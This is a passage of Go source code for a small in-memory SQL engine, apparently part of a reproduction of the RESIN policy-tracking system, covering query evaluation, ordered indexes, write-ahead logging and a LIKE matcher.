		probeCI = probe.ci
		ordered = true
	case probe != nil:
		fill(probe.rowOrderCandidates())
		probeCI = probe.ci
	case orderCI >= 0 && t.indexes[orderCI] != nil && !s.ForceScan:
		// ORDER BY pushdown without a probe: traverse the whole ordered
		// index (NULL bucket first for ASC, last for DESC) and filter.
		fill(t.indexes[orderCI].orderedCands(s.Desc))
		probeCI = orderCI
		ordered = true
	default:
		entries := t.entries // slice header copy; contents immutable for this snapshot
		cands = make([]selCand, len(entries))
		for i, en := range entries {
			cands[i] = selCand{en: en}
		}
	}
	unlock()

	// Lock-free phase: resolve visibility, evaluate, order, project.
	// When candidates already arrive in final order — an ordered-index
	// traversal, or no ORDER BY at all (scan order is result order) —
	// the LIMIT short-circuits the walk after k visible matches instead
	// of collecting everything and truncating (top-k is O(k), not O(n)).
	canStop := s.Limit >= 0 && (ordered || orderCI < 0)
	matched := make([][]value, 0, len(cands))
	for _, c := range cands {
		if canStop && len(matched) >= s.Limit {
			limitStops.Add(1)
			break
		}
		v := c.en.visible(snap)
		if v == nil {
			continue
		}
		if c.checkKey && !keyMatches(v.vals[probeCI], c.key) {
			continue // superseded pair: this row's visible value lives under another key
		}
		ok, err := evalBool(s.Where, t, v.vals)
		if err != nil {
			return nil, err
		}
		if ok {
			matched = append(matched, v.vals)
		}
	}
	if orderCI >= 0 && !ordered {
		sortCalls.Add(1)
		sort.SliceStable(matched, func(i, j int) bool {
			if s.Desc {
				return valueLess(matched[j][orderCI], matched[i][orderCI])
			}
			return valueLess(matched[i][orderCI], matched[j][orderCI])
		})
	}
	if s.Limit >= 0 && len(matched) > s.Limit {
		matched = matched[:s.Limit]
	}
	out := &rawResult{cols: outCols}
	for _, row := range matched {
		r := make([]value, len(outIdx))
		for i, ci := range outIdx {
			r[i] = row[ci]
		}
		out.rows = append(out.rows, r)
	}
	return out, nil
}

func (e *Engine) update(s *Update) (int, []rowOp, error) {
	key := strings.ToLower(s.Table)
	t, ok := e.tables[key]
	if !ok {
		return 0, nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
	}
	if err := validateExpr(s.Where, t); err != nil {
		return 0, nil, err
	}
	type setOp struct {
		ci  int
		val value
	}
	sets := make([]setOp, 0, len(s.Set))
	for _, a := range s.Set {
		ci := t.colIndex(a.Column)
		if ci < 0 {
			return 0, nil, fmt.Errorf("%w: %s.%s", ErrNoColumn, s.Table, a.Column)
		}
		v, err := literalValue(a.Value, t.cols[ci].Type)
		if err != nil {
			return 0, nil, err
		}
		sets = append(sets, setOp{ci, v})
	}
	ents, vers, err := t.matchEntries(s.Where, e.frontier.Load())
	if err != nil {
		return 0, nil, err
	}
	ops := make([]rowOp, 0, len(ents))
	for i, en := range ents {
		vals := append([]value(nil), vers[i].vals...)
		for _, op := range sets {
			vals[op.ci] = op.val
		}
		ops = append(ops, rowOp{kind: opUpdate, table: key, id: en.id, vals: vals})
	}
	return len(ops), ops, nil
}

func (e *Engine) delete(s *Delete) (int, []rowOp, error) {
	key := strings.ToLower(s.Table)
	t, ok := e.tables[key]
	if !ok {
		return 0, nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
	}
	if err := validateExpr(s.Where, t); err != nil {
		return 0, nil, err
	}
	ents, _, err := t.matchEntries(s.Where, e.frontier.Load())
	if err != nil {
		return 0, nil, err
	}
	ops := make([]rowOp, 0, len(ents))
	for _, en := range ents {
		ops = append(ops, rowOp{kind: opDelete, table: key, id: en.id})
	}
	return len(ops), ops, nil
}

// validateExpr checks that every column reference in an expression
// resolves in the scope, so malformed queries fail even on empty tables.
func validateExpr(ex Expr, sc scope) error {
	switch v := ex.(type) {
	case nil, *NullLit, *IntLit, *StringLit:
		return nil
	case *ColumnRef:
		_, err := sc.resolveCol(v.Name)
		return err
	case *Unary:
		return validateExpr(v.X, sc)
	case *Binary:
		if err := validateExpr(v.L, sc); err != nil {
			return err
		}
		return validateExpr(v.R, sc)
	case *Param:
		return fmt.Errorf("sqldb: unbound plan parameter ?%d", v.Idx)
	case *Placeholder:
		return fmt.Errorf("sqldb: unbound placeholder ?%d", v.Ord)
	default:
		return fmt.Errorf("sqldb: unsupported expression %T", ex)
	}
}

// evalBool evaluates a WHERE expression; a nil expression matches all.
func evalBool(ex Expr, sc scope, row []value) (bool, error) {
	if ex == nil {
		return true, nil
	}
	v, err := eval(ex, sc, row)
	if err != nil {
		return false, err
	}
	if v.null {
		return false, nil
	}
	if v.isInt {
		return v.i != 0, nil
	}
	return v.s != "", nil
}

func eval(ex Expr, sc scope, row []value) (value, error) {
	switch v := ex.(type) {
	case *NullLit:
		return nullValue(), nil
	case *IntLit:
		return intValue(v.Val), nil
	case *StringLit:
		return textValue(v.Val.Raw()), nil
	case *ColumnRef:
		ci, err := sc.resolveCol(v.Name)
		if err != nil {
			return value{}, err
		}
		return row[ci], nil
	case *Unary:
		b, err := evalBool(v.X, sc, row)
		if err != nil {
			return value{}, err
		}
		return boolValue(!b), nil
	case *Binary:
		return evalBinary(v, sc, row)
	case *Param:
		return value{}, fmt.Errorf("sqldb: unbound plan parameter ?%d", v.Idx)
	case *Placeholder:
		return value{}, fmt.Errorf("sqldb: unbound placeholder ?%d", v.Ord)
	default:
		return value{}, fmt.Errorf("sqldb: unsupported expression %T", ex)
	}
}

func boolValue(b bool) value {
	if b {
		return intValue(1)
	}
	return intValue(0)
}

func evalBinary(b *Binary, sc scope, row []value) (value, error) {
	switch b.Op {
	case "AND":
		l, err := evalBool(b.L, sc, row)
		if err != nil {
			return value{}, err
		}
		if !l {
			return boolValue(false), nil
		}
		r, err := evalBool(b.R, sc, row)
		if err != nil {
			return value{}, err
		}
		return boolValue(r), nil
	case "OR":
		l, err := evalBool(b.L, sc, row)
		if err != nil {
			return value{}, err
		}
		if l {
			return boolValue(true), nil
		}
		r, err := evalBool(b.R, sc, row)
		if err != nil {
			return value{}, err
		}
		return boolValue(r), nil
	}
	l, err := eval(b.L, sc, row)
	if err != nil {
		return value{}, err
	}
	r, err := eval(b.R, sc, row)
	if err != nil {
		return value{}, err
	}
	if l.null || r.null {
		// SQL three-valued logic collapsed to false.
		return boolValue(false), nil
	}
	switch b.Op {
	case "=":
		return boolValue(valueCompare(l, r) == 0), nil
	case "!=":
		return boolValue(valueCompare(l, r) != 0), nil
	case "<":
		return boolValue(valueCompare(l, r) < 0), nil
	case "<=":
		return boolValue(valueCompare(l, r) <= 0), nil
	case ">":
		return boolValue(valueCompare(l, r) > 0), nil
	case ">=":
		return boolValue(valueCompare(l, r) >= 0), nil
	case "LIKE":
		return boolValue(likeMatch(l.String(), r.String())), nil
	default:
		return value{}, fmt.Errorf("sqldb: unsupported operator %q", b.Op)
	}
}

// valueCompare compares two non-null values: numerically when both are
// integers, else textually on rendered forms (MySQL-ish coercion).
func valueCompare(a, b value) int {
	if a.isInt && b.isInt {
		switch {
		case a.i < b.i:
			return -1
		case a.i > b.i:
			return 1
		default:
			return 0
		}
	}
	return strings.Compare(a.String(), b.String())
}

// valueLess orders values for ORDER BY with NULLs first.
func valueLess(a, b value) bool {
	if a.null || b.null {
		return a.null && !b.null
	}
	return valueCompare(a, b) < 0
}

// likeMatch implements SQL LIKE with % (any run) and _ (any byte).
func likeMatch(s, pattern string) bool {
	// Dynamic programming over bytes.
	m, n := len(s), len(pattern)
	prev := make([]bool, m+1)
	cur := make([]bool, m+1)
	prev[0] = true
	for j := 1; j <= n; j++ {
		cur[0] = prev[0] && pattern[j-1] == '%'
		for i := 1; i <= m; i++ {
			switch pattern[j-1] {
			case '%':
				cur[i] = cur[i-1] || prev[i]
			case '_':
				cur[i] = prev[i-1]
			default:
				cur[i] = prev[i-1] && s[i-1] == pattern[j-1]
			}
		}
		prev, cur = cur, prev
	}
	return prev[m]
}
