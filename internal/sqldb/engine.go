package sqldb

import (
	"errors"
	"fmt"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
)

// The engine executes parsed statements over in-memory tables holding
// plain (untracked) values — like the MySQL server behind the paper's PHP
// prototype, the database itself knows nothing about policies. Policy
// persistence happens one layer up, in the RESIN SQL filter, which
// rewrites queries to read and write shadow policy columns (Figure 4).

// Engine errors. Wrapped ErrNoColumn errors always name the table as
// well as the column ("table.column"), so a failing query over a
// multi-table schema pins down which schema it missed.
var (
	ErrNoTable      = errors.New("sqldb: no such table")
	ErrTableExists  = errors.New("sqldb: table already exists")
	ErrNoColumn     = errors.New("sqldb: no such column")
	ErrTypeMismatch = errors.New("sqldb: type mismatch")
	ErrIndexExists  = errors.New("sqldb: index already exists")
	ErrNoIndex      = errors.New("sqldb: no such index")
)

// value is one stored cell: NULL, an integer, or text.
type value struct {
	null  bool
	isInt bool
	i     int64
	s     string
}

func nullValue() value         { return value{null: true} }
func intValue(v int64) value   { return value{isInt: true, i: v} }
func textValue(s string) value { return value{s: s} }
func (v value) String() string {
	switch {
	case v.null:
		return "NULL"
	case v.isInt:
		return strconv.FormatInt(v.i, 10)
	default:
		return v.s
	}
}

// table is one in-memory table.
type table struct {
	name    string
	cols    []ColumnDef
	colIdx  map[string]int // lower-cased column name → position
	rows    [][]value
	indexes map[int]*orderedIndex // column position → ordered index (index.go)
}

func newTable(name string, cols []ColumnDef) *table {
	t := &table{name: name, cols: cols, colIdx: make(map[string]int, len(cols))}
	for i, c := range t.cols {
		t.colIdx[strings.ToLower(c.Name)] = i
	}
	return t
}

// colIndex resolves a column name case-insensitively. The memoized map
// covers every ASCII spelling (column names are ASCII identifiers); the
// linear EqualFold walk remains only as a fallback for programmatically
// built statements with non-ASCII case variants.
func (t *table) colIndex(name string) int {
	if i, ok := t.colIdx[strings.ToLower(name)]; ok {
		return i
	}
	for i, c := range t.cols {
		if strings.EqualFold(c.Name, name) {
			return i
		}
	}
	return -1
}

// indexKey is the canonical equality key of a value: non-null values key
// by their rendered form, matching valueCompare's MySQL-ish coercion
// (int 1 and text '1' compare equal and share a key); NULL gets a
// reserved key that no `col = literal` lookup ever probes, since SQL
// equality with NULL never matches. The ordered-index structure itself
// lives in index.go.
func indexKey(v value) string {
	if v.null {
		return "\x00null"
	}
	return "=" + v.String()
}

// rebuildIndexes recomputes every index of the table from its rows.
func (t *table) rebuildIndexes() {
	for ci := range t.indexes {
		t.indexes[ci] = buildIndex(t.rows, ci)
	}
}

// schemaGenCounter issues process-unique schema generations: every DDL
// statement (CREATE/DROP TABLE or INDEX) stamps its engine with a fresh
// generation, and plan-cache entries compiled against an older (or other
// engine's) generation recompile instead of reusing stale schema
// conclusions. Uniqueness across engines matters because transactions
// execute against speculative clones.
var schemaGenCounter atomic.Uint64

// Engine is the in-memory database engine. It is safe for concurrent
// use: SELECTs share a read lock, so concurrent readers proceed in
// parallel while writers (including index maintenance) serialize.
type Engine struct {
	mu     sync.RWMutex
	tables map[string]*table
	gen    atomic.Uint64

	// wal, when non-nil, is the write-ahead log this engine appends every
	// successful mutation to — inside the write-lock critical section, so
	// a mutation is durable (per the sync policy) before its ack leaves
	// the engine. See wal.go / recover.go.
	wal *wal

	// logSeq counts records this engine appended to its wal. Tx.Commit
	// compares it against the value captured at Begin to detect direct
	// writes that were logged (and acked durable) while the transaction
	// ran: those writes survive in the log but are discarded from memory
	// by the engine swap, so a conflicted commit rewrites the log from
	// the committed state instead of appending — keeping recovered state
	// equal to live state. Guarded by mu like the table state.
	logSeq uint64

	// recordRedo makes the engine keep the dialect text of every
	// successful mutation in redo: a transaction's speculative engine
	// records its writes so Commit can log them as one begin..commit
	// group (see tx.go). Guarded by mu like the table state.
	recordRedo bool
	redo       []string
}

// NewEngine returns an empty database engine.
func NewEngine() *Engine {
	e := &Engine{tables: make(map[string]*table)}
	e.gen.Store(schemaGenCounter.Add(1))
	return e
}

// SchemaGen returns the engine's current schema generation: a
// process-unique value that changes on every CREATE/DROP of a table or
// index. Cached query plans key their schema-derived state on it.
func (e *Engine) SchemaGen() uint64 { return e.gen.Load() }

func (e *Engine) bumpSchemaGen() { e.gen.Store(schemaGenCounter.Add(1)) }

// rawResult is the engine-level result of a SELECT: column names plus
// plain values.
type rawResult struct {
	cols []string
	rows [][]value
}

// ExecuteRaw runs a statement and returns the raw result (SELECT) or nil.
// affected reports the number of rows touched by INSERT/UPDATE/DELETE.
// SELECTs take only the read lock, so they run concurrently; all other
// statements serialize under the write lock.
func (e *Engine) ExecuteRaw(stmt Statement) (res *rawResult, affected int, err error) {
	if s, ok := stmt.(*Select); ok {
		e.mu.RLock()
		defer e.mu.RUnlock()
		r, err := e.selectRows(s)
		return r, 0, err
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.wal != nil {
		// Refuse up front rather than validate work the log cannot ack
		// (closed database, or a log that already failed a write).
		if werr := e.wal.usable(); werr != nil {
			return nil, 0, werr
		}
	}
	n, apply, err := e.validateMutation(stmt)
	if err != nil {
		// A statement that failed validation was never applied and must
		// leave the log byte-identical (tested by
		// TestRejectedStatementLeavesWALUntouched).
		return nil, 0, err
	}
	// Write-ahead for real: the record is durable (per the sync policy)
	// before the infallible apply step mutates memory, so a failed
	// append — disk full, closed log — rejects the statement with both
	// memory and log unchanged, and a crash between append and return
	// replays a statement the engine had fully validated.
	if logMutation(stmt, n) {
		if e.wal != nil {
			if werr := e.wal.appendStmt(stmt.SQL()); werr != nil {
				return nil, 0, werr
			}
			e.logSeq++
		}
		if e.recordRedo {
			e.redo = append(e.redo, stmt.SQL())
		}
	}
	apply()
	return nil, n, nil
}

// validateMutation checks a non-SELECT statement under the held write
// lock and returns the affected-row count plus an apply step that
// cannot fail: every error surfaces here, before the WAL logs the
// statement, so a logged record always replays.
func (e *Engine) validateMutation(stmt Statement) (int, func(), error) {
	switch s := stmt.(type) {
	case *CreateTable:
		return e.createTable(s)
	case *DropTable:
		return e.dropTable(s)
	case *CreateIndex:
		return e.createIndex(s)
	case *DropIndex:
		return e.dropIndex(s)
	case *Insert:
		return e.insert(s)
	case *Update:
		return e.update(s)
	case *Delete:
		return e.delete(s)
	default:
		return 0, nil, fmt.Errorf("sqldb: unsupported statement %T", stmt)
	}
}

// logMutation reports whether a successful mutation needs a log record:
// everything except UPDATE/DELETE that matched nothing (replaying a
// no-op is sound but would grow the log for nothing).
func logMutation(stmt Statement, affected int) bool {
	switch stmt.(type) {
	case *Update, *Delete:
		return affected > 0
	}
	return true
}

// Schema returns the column definitions of a table.
func (e *Engine) Schema(name string) ([]ColumnDef, error) {
	e.mu.RLock()
	defer e.mu.RUnlock()
	t, ok := e.tables[strings.ToLower(name)]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNoTable, name)
	}
	return append([]ColumnDef(nil), t.cols...), nil
}

// Tables returns the sorted table names.
func (e *Engine) Tables() []string {
	e.mu.RLock()
	defer e.mu.RUnlock()
	out := make([]string, 0, len(e.tables))
	for n := range e.tables {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

func (e *Engine) createTable(s *CreateTable) (int, func(), error) {
	key := strings.ToLower(s.Table)
	if _, ok := e.tables[key]; ok {
		return 0, nil, fmt.Errorf("%w: %s", ErrTableExists, s.Table)
	}
	seen := make(map[string]bool)
	for _, c := range s.Cols {
		k := strings.ToLower(c.Name)
		if seen[k] {
			return 0, nil, fmt.Errorf("sqldb: duplicate column %q", c.Name)
		}
		seen[k] = true
	}
	return 0, func() {
		e.tables[key] = newTable(s.Table, append([]ColumnDef(nil), s.Cols...))
		e.bumpSchemaGen()
	}, nil
}

func (e *Engine) dropTable(s *DropTable) (int, func(), error) {
	key := strings.ToLower(s.Table)
	if _, ok := e.tables[key]; !ok {
		return 0, nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
	}
	return 0, func() {
		delete(e.tables, key)
		e.bumpSchemaGen()
	}, nil
}

func (e *Engine) createIndex(s *CreateIndex) (int, func(), error) {
	t, ok := e.tables[strings.ToLower(s.Table)]
	if !ok {
		return 0, nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
	}
	ci := t.colIndex(s.Column)
	if ci < 0 {
		return 0, nil, fmt.Errorf("%w: %s.%s", ErrNoColumn, s.Table, s.Column)
	}
	if _, ok := t.indexes[ci]; ok {
		return 0, nil, fmt.Errorf("%w: %s (%s)", ErrIndexExists, s.Table, s.Column)
	}
	return 0, func() {
		if t.indexes == nil {
			t.indexes = make(map[int]*orderedIndex, 1)
		}
		t.indexes[ci] = buildIndex(t.rows, ci)
		e.bumpSchemaGen()
	}, nil
}

func (e *Engine) dropIndex(s *DropIndex) (int, func(), error) {
	t, ok := e.tables[strings.ToLower(s.Table)]
	if !ok {
		return 0, nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
	}
	ci := t.colIndex(s.Column)
	if ci < 0 {
		return 0, nil, fmt.Errorf("%w: %s.%s", ErrNoColumn, s.Table, s.Column)
	}
	if _, ok := t.indexes[ci]; !ok {
		return 0, nil, fmt.Errorf("%w: %s (%s)", ErrNoIndex, s.Table, s.Column)
	}
	return 0, func() {
		delete(t.indexes, ci)
		e.bumpSchemaGen()
	}, nil
}

// Indexes returns the names of the indexed columns of a table, sorted.
func (e *Engine) Indexes(name string) ([]string, error) {
	e.mu.RLock()
	defer e.mu.RUnlock()
	t, ok := e.tables[strings.ToLower(name)]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNoTable, name)
	}
	out := make([]string, 0, len(t.indexes))
	for ci := range t.indexes {
		out = append(out, t.cols[ci].Name)
	}
	sort.Strings(out)
	return out, nil
}

// literalValue converts a literal expression to a stored value, coercing
// to the column type.
func literalValue(ex Expr, typ ColType) (value, error) {
	switch v := ex.(type) {
	case *NullLit:
		return nullValue(), nil
	case *StringLit:
		if typ == ColInt {
			n, err := strconv.ParseInt(strings.TrimSpace(v.Val.Raw()), 10, 64)
			if err != nil {
				return value{}, fmt.Errorf("%w: %q is not an integer", ErrTypeMismatch, v.Val.Raw())
			}
			return intValue(n), nil
		}
		return textValue(v.Val.Raw()), nil
	case *IntLit:
		if typ == ColInt {
			return intValue(v.Val), nil
		}
		return textValue(strconv.FormatInt(v.Val, 10)), nil
	case *Placeholder:
		return value{}, fmt.Errorf("sqldb: unbound placeholder ?%d", v.Ord)
	default:
		return value{}, fmt.Errorf("sqldb: expected literal, got %T", ex)
	}
}

func (e *Engine) insert(s *Insert) (int, func(), error) {
	t, ok := e.tables[strings.ToLower(s.Table)]
	if !ok {
		return 0, nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
	}
	idx := make([]int, len(s.Columns))
	for i, name := range s.Columns {
		ci := t.colIndex(name)
		if ci < 0 {
			return 0, nil, fmt.Errorf("%w: %s.%s", ErrNoColumn, s.Table, name)
		}
		idx[i] = ci
	}
	// Convert every row in the validate phase, so a bad value in any row
	// rejects the whole INSERT before a single row (or WAL record) lands.
	rows := make([][]value, 0, len(s.Rows))
	for _, exprs := range s.Rows {
		row := make([]value, len(t.cols))
		for i := range row {
			row[i] = nullValue()
		}
		for i, ex := range exprs {
			v, err := literalValue(ex, t.cols[idx[i]].Type)
			if err != nil {
				return 0, nil, err
			}
			row[idx[i]] = v
		}
		rows = append(rows, row)
	}
	return len(s.Rows), func() {
		for _, row := range rows {
			pos := len(t.rows)
			t.rows = append(t.rows, row)
			for ci, ix := range t.indexes {
				ix.add(row[ci], pos)
			}
		}
	}, nil
}

// matchPositions returns the positions of rows satisfying where, in
// ascending order — via an index when the predicate analyzer finds a
// usable equality, range, or LIKE-prefix conjunct, else by scanning.
func (t *table) matchPositions(where Expr) ([]int, error) {
	if probe := t.analyzeProbe(where); probe != nil {
		return t.filterPositions(probe.rowOrderCandidates(), where)
	}
	return t.scanPositions(where)
}

// scanPositions is the index-free path: evaluate where against every
// row, in row order.
func (t *table) scanPositions(where Expr) ([]int, error) {
	var out []int
	for pos, row := range t.rows {
		ok, err := evalBool(where, t, row)
		if err != nil {
			return nil, err
		}
		if ok {
			out = append(out, pos)
		}
	}
	return out, nil
}

// filterPositions evaluates where against each candidate position,
// keeping the incoming order (filtering in place).
func (t *table) filterPositions(cand []int, where Expr) ([]int, error) {
	out := cand[:0]
	for _, pos := range cand {
		ok, err := evalBool(where, t, t.rows[pos])
		if err != nil {
			return nil, err
		}
		if ok {
			out = append(out, pos)
		}
	}
	return out, nil
}

func (e *Engine) selectRows(s *Select) (*rawResult, error) {
	t, ok := e.tables[strings.ToLower(s.Table)]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
	}
	var outCols []string
	var outIdx []int
	if s.Star {
		for i, c := range t.cols {
			outCols = append(outCols, c.Name)
			outIdx = append(outIdx, i)
		}
	} else {
		for _, name := range s.Columns {
			ci := t.colIndex(name)
			if ci < 0 {
				return nil, fmt.Errorf("%w: %s.%s", ErrNoColumn, s.Table, name)
			}
			outCols = append(outCols, t.cols[ci].Name)
			outIdx = append(outIdx, ci)
		}
	}
	if err := validateExpr(s.Where, t); err != nil {
		return nil, err
	}
	orderCI := -1
	if s.OrderBy != "" {
		orderCI = t.colIndex(s.OrderBy)
		if orderCI < 0 {
			return nil, fmt.Errorf("%w: %s.%s", ErrNoColumn, s.Table, s.OrderBy)
		}
	}

	// Pick the access path. `ordered` records that positions already
	// come out in the requested ORDER BY order, so the post-filter sort
	// (counted by SortCount) can be skipped — ORDER BY pushdown. Every
	// path re-evaluates the full WHERE, so the choice affects only cost
	// and never results (docs/SQL.md §4).
	probe := t.analyzeProbe(s.Where)
	var positions []int
	var err error
	ordered := false
	switch {
	case probe != nil && orderCI == probe.ci:
		// The probed conjunct is on the ORDER BY column: a key-ordered
		// traversal of the probe span is already sorted. (An equality
		// bucket is one key in ascending row order — exactly what the
		// stable sort would produce for either direction.)
		positions, err = t.filterPositions(probe.candidates(s.Desc), s.Where)
		ordered = true
	case probe != nil:
		positions, err = t.filterPositions(probe.rowOrderCandidates(), s.Where)
	case orderCI >= 0 && t.indexes[orderCI] != nil:
		// ORDER BY pushdown without a probe: traverse the whole ordered
		// index (NULL bucket first for ASC, last for DESC) and filter.
		positions, err = t.filterPositions(t.indexes[orderCI].orderedPositions(s.Desc), s.Where)
		ordered = true
	default:
		// The analyzer already came up empty; go straight to the scan
		// rather than re-analyzing through matchPositions.
		positions, err = t.scanPositions(s.Where)
	}
	if err != nil {
		return nil, err
	}

	matched := make([][]value, 0, len(positions))
	for _, pos := range positions {
		matched = append(matched, t.rows[pos])
	}
	if orderCI >= 0 && !ordered {
		sortCalls.Add(1)
		sort.SliceStable(matched, func(i, j int) bool {
			if s.Desc {
				return valueLess(matched[j][orderCI], matched[i][orderCI])
			}
			return valueLess(matched[i][orderCI], matched[j][orderCI])
		})
	}
	if s.Limit >= 0 && len(matched) > s.Limit {
		matched = matched[:s.Limit]
	}
	out := &rawResult{cols: outCols}
	for _, row := range matched {
		r := make([]value, len(outIdx))
		for i, ci := range outIdx {
			r[i] = row[ci]
		}
		out.rows = append(out.rows, r)
	}
	return out, nil
}

func (e *Engine) update(s *Update) (int, func(), error) {
	t, ok := e.tables[strings.ToLower(s.Table)]
	if !ok {
		return 0, nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
	}
	if err := validateExpr(s.Where, t); err != nil {
		return 0, nil, err
	}
	type setOp struct {
		ci  int
		val value
	}
	ops := make([]setOp, 0, len(s.Set))
	for _, a := range s.Set {
		ci := t.colIndex(a.Column)
		if ci < 0 {
			return 0, nil, fmt.Errorf("%w: %s.%s", ErrNoColumn, s.Table, a.Column)
		}
		v, err := literalValue(a.Value, t.cols[ci].Type)
		if err != nil {
			return 0, nil, err
		}
		ops = append(ops, setOp{ci, v})
	}
	positions, err := t.matchPositions(s.Where)
	if err != nil {
		return 0, nil, err
	}
	return len(positions), func() {
		for _, pos := range positions {
			row := t.rows[pos]
			for _, op := range ops {
				if ix := t.indexes[op.ci]; ix != nil && indexKey(row[op.ci]) != indexKey(op.val) {
					ix.remove(row[op.ci], pos)
					ix.add(op.val, pos)
				}
				row[op.ci] = op.val
			}
		}
	}, nil
}

func (e *Engine) delete(s *Delete) (int, func(), error) {
	t, ok := e.tables[strings.ToLower(s.Table)]
	if !ok {
		return 0, nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
	}
	if err := validateExpr(s.Where, t); err != nil {
		return 0, nil, err
	}
	positions, err := t.matchPositions(s.Where)
	if err != nil {
		return 0, nil, err
	}
	return len(positions), func() {
		if len(positions) == 0 {
			return
		}
		// Removing rows shifts the positions of everything after them, so
		// deletes rebuild the table's indexes rather than patching buckets.
		kept := make([][]value, 0, len(t.rows)-len(positions))
		next := 0
		for pos, row := range t.rows {
			if next < len(positions) && positions[next] == pos {
				next++
				continue
			}
			kept = append(kept, row)
		}
		t.rows = kept
		t.rebuildIndexes()
	}, nil
}

// validateExpr checks that every column reference in an expression names
// a column of the table, so malformed queries fail even on empty tables.
func validateExpr(ex Expr, t *table) error {
	switch v := ex.(type) {
	case nil, *NullLit, *IntLit, *StringLit:
		return nil
	case *ColumnRef:
		if t.colIndex(v.Name) < 0 {
			return fmt.Errorf("%w: %s.%s", ErrNoColumn, t.name, v.Name)
		}
		return nil
	case *Unary:
		return validateExpr(v.X, t)
	case *Binary:
		if err := validateExpr(v.L, t); err != nil {
			return err
		}
		return validateExpr(v.R, t)
	case *Param:
		return fmt.Errorf("sqldb: unbound plan parameter ?%d", v.Idx)
	case *Placeholder:
		return fmt.Errorf("sqldb: unbound placeholder ?%d", v.Ord)
	default:
		return fmt.Errorf("sqldb: unsupported expression %T", ex)
	}
}

// evalBool evaluates a WHERE expression; a nil expression matches all.
func evalBool(ex Expr, t *table, row []value) (bool, error) {
	if ex == nil {
		return true, nil
	}
	v, err := eval(ex, t, row)
	if err != nil {
		return false, err
	}
	if v.null {
		return false, nil
	}
	if v.isInt {
		return v.i != 0, nil
	}
	return v.s != "", nil
}

func eval(ex Expr, t *table, row []value) (value, error) {
	switch v := ex.(type) {
	case *NullLit:
		return nullValue(), nil
	case *IntLit:
		return intValue(v.Val), nil
	case *StringLit:
		return textValue(v.Val.Raw()), nil
	case *ColumnRef:
		ci := t.colIndex(v.Name)
		if ci < 0 {
			return value{}, fmt.Errorf("%w: %s.%s", ErrNoColumn, t.name, v.Name)
		}
		return row[ci], nil
	case *Unary:
		b, err := evalBool(v.X, t, row)
		if err != nil {
			return value{}, err
		}
		return boolValue(!b), nil
	case *Binary:
		return evalBinary(v, t, row)
	case *Param:
		return value{}, fmt.Errorf("sqldb: unbound plan parameter ?%d", v.Idx)
	case *Placeholder:
		return value{}, fmt.Errorf("sqldb: unbound placeholder ?%d", v.Ord)
	default:
		return value{}, fmt.Errorf("sqldb: unsupported expression %T", ex)
	}
}

func boolValue(b bool) value {
	if b {
		return intValue(1)
	}
	return intValue(0)
}

func evalBinary(b *Binary, t *table, row []value) (value, error) {
	switch b.Op {
	case "AND":
		l, err := evalBool(b.L, t, row)
		if err != nil {
			return value{}, err
		}
		if !l {
			return boolValue(false), nil
		}
		r, err := evalBool(b.R, t, row)
		if err != nil {
			return value{}, err
		}
		return boolValue(r), nil
	case "OR":
		l, err := evalBool(b.L, t, row)
		if err != nil {
			return value{}, err
		}
		if l {
			return boolValue(true), nil
		}
		r, err := evalBool(b.R, t, row)
		if err != nil {
			return value{}, err
		}
		return boolValue(r), nil
	}
	l, err := eval(b.L, t, row)
	if err != nil {
		return value{}, err
	}
	r, err := eval(b.R, t, row)
	if err != nil {
		return value{}, err
	}
	if l.null || r.null {
		// SQL three-valued logic collapsed to false.
		return boolValue(false), nil
	}
	switch b.Op {
	case "=":
		return boolValue(valueCompare(l, r) == 0), nil
	case "!=":
		return boolValue(valueCompare(l, r) != 0), nil
	case "<":
		return boolValue(valueCompare(l, r) < 0), nil
	case "<=":
		return boolValue(valueCompare(l, r) <= 0), nil
	case ">":
		return boolValue(valueCompare(l, r) > 0), nil
	case ">=":
		return boolValue(valueCompare(l, r) >= 0), nil
	case "LIKE":
		return boolValue(likeMatch(l.String(), r.String())), nil
	default:
		return value{}, fmt.Errorf("sqldb: unsupported operator %q", b.Op)
	}
}

// valueCompare compares two non-null values: numerically when both are
// integers, else textually on rendered forms (MySQL-ish coercion).
func valueCompare(a, b value) int {
	if a.isInt && b.isInt {
		switch {
		case a.i < b.i:
			return -1
		case a.i > b.i:
			return 1
		default:
			return 0
		}
	}
	return strings.Compare(a.String(), b.String())
}

// valueLess orders values for ORDER BY with NULLs first.
func valueLess(a, b value) bool {
	if a.null || b.null {
		return a.null && !b.null
	}
	return valueCompare(a, b) < 0
}

// likeMatch implements SQL LIKE with % (any run) and _ (any byte).
func likeMatch(s, pattern string) bool {
	// Dynamic programming over bytes.
	m, n := len(s), len(pattern)
	prev := make([]bool, m+1)
	cur := make([]bool, m+1)
	prev[0] = true
	for j := 1; j <= n; j++ {
		cur[0] = prev[0] && pattern[j-1] == '%'
		for i := 1; i <= m; i++ {
			switch pattern[j-1] {
			case '%':
				cur[i] = cur[i-1] || prev[i]
			case '_':
				cur[i] = prev[i-1]
			default:
				cur[i] = prev[i-1] && s[i-1] == pattern[j-1]
			}
		}
		prev, cur = cur, prev
	}
	return prev[m]
}
