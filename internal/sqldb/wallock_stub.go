//go:build !unix

package sqldb

import "os"

// lockWALFile is a no-op on platforms without flock: the single-writer
// rule is the caller's responsibility there. The unix build enforces it.
func lockWALFile(f *os.File) error { return nil }
