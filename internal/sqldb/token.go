// Package sqldb is the SQL substrate of the RESIN reproduction: a lexer,
// parser, and in-memory execution engine for a small SQL dialect, plus the
// RESIN SQL filter object that (a) persists policy objects in shadow
// "policy columns" (Figure 4 of the paper), and (b) implements both SQL
// injection defenses of §5.3 — the sanitized-marker strategy and the
// tainted-structure strategy.
//
// The lexer operates on tracked strings so every token knows the byte
// range it came from; that is what lets the filter ask "do any characters
// in the query's *structure* carry the UntrustedData policy?".
//
